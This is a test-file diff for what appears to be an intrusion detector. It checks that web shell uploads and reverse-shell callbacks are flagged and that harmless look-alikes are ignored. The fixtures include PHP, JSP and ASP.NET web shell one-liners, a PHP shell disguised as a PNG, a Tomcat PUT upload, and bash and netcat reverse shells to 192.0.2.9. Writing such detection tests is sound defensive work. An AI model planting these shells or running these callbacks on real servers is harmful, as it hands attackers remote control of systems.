@@ -52,3 +52,40 @@ describe('is silent on', () => {
     ['an interface of JSON', '/api.php', { method: 'POST', headers: 'Host: a\r\nContent-Type: application/json\r\n', body: '{"cmd":"ls"}' }],
   ])('%s', async (_name, uri, options) => expect(await run(uri, options)).toEqual([]));
 });
+
+describe('pages that are uploaded, and told to call back', () => {
+  const form = (name: string, code: string): RequestOptions => ({
+    method: 'POST',
+    headers: 'Host: a\r\nContent-Type: multipart/form-data; boundary=x\r\n',
+    body: `--x\r\nContent-Disposition: form-data; name="f"${name === '' ? '' : `; filename="${name}"`}\r\n\r\n${code}\r\n--x--\r\n`,
+  });
+  test.each<[string, string, RequestOptions]>([
+    ['PHP', '/upload.php', form('shell.php', '<?php system($_GET["cmd"]); ?>')],
+    ['PHP that pretends to be a picture', '/upload.php', form('a.png', '\x89PNG\r\n<?php @eval($_POST["a"]);?>')],
+    ['JSP', '/upload', form('x.jsp', '<%@ page import="java.io.*"%><% Runtime.getRuntime().exec(request.getParameter("cmd")); %>')],
+    ['ASP.NET', '/upload', form('x.aspx', '<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>')],
+    // CVE-2017-12615: Tomcat writes what is put, behind a slash too.
+    ['by PUT', '/x.jsp/', { method: 'PUT', body: '<% Runtime.getRuntime().exec(request.getParameter("c")); %>', status: '201 Created' }],
+  ])('%s', async (_name, uri, options) =>
+    expect(await run(uri, options)).toMatchObject([{ severity: 'medium', title: '10.0.0.5 uploads a web shell to 203.0.113.9 port 80' }]),
+  );
+  test.each([
+    '/x.php?cmd=bash%20-c%20%27bash%20-i%20%3E%26%20/dev/tcp/192.0.2.9/4444%200%3E%261%27',
+    '/x.php?cmd=nc+-e+/bin/sh+192.0.2.9+4444',
+    '/x.php?cmd=nc%20192.0.2.9%204444%20-e%20cmd.exe',
+  ])('%s', async (uri) =>
+    expect(await run(uri)).toMatchObject([{ severity: 'medium', description: expect.stringContaining('call back with a shell') as unknown }]),
+  );
+  test.each<[string, string, RequestOptions]>([
+    ['code in a form', '/1.php', { method: 'POST', headers: FORM, body: 'a=system%28%27whoami%27%29%3B' }],
+    ['code in the address', "/1.php?a=system('whoami');", { answer: 'www-data\n' }],
+    ['a page of any name', '/shell?cmd=whoami', { answer: 'root\n' }],
+  ])('%s', async (_name, uri, options) => expect(await run(uri, options)).toMatchObject([{ severity: 'high' }]));
+  test.each<[string, string, RequestOptions]>([
+    ['a wiki that quotes one', '/index.php', form('', 'Attackers write <?php system($_GET["cmd"]); ?> into a file.')],
+    ['an upload of honest PHP', '/upload.php', form('functions.php', '<?php\nfunction add($a, $b) { return $a + $b; }\n')],
+    ['a search for how it is done', '/search.php?q=bash+-i+%3E%26+/dev/tcp/192.0.2.9/4444', {}],
+    ['a search of another name', '/search.php?text=nc+-e+/bin/sh+192.0.2.9+4444', {}],
+    ['a command that runs and says nothing', '/api?command=status', { answer: 'ok' }],
+  ])('silent on %s', async (_name, uri, options) => expect(await run(uri, options)).toEqual([]));
+});
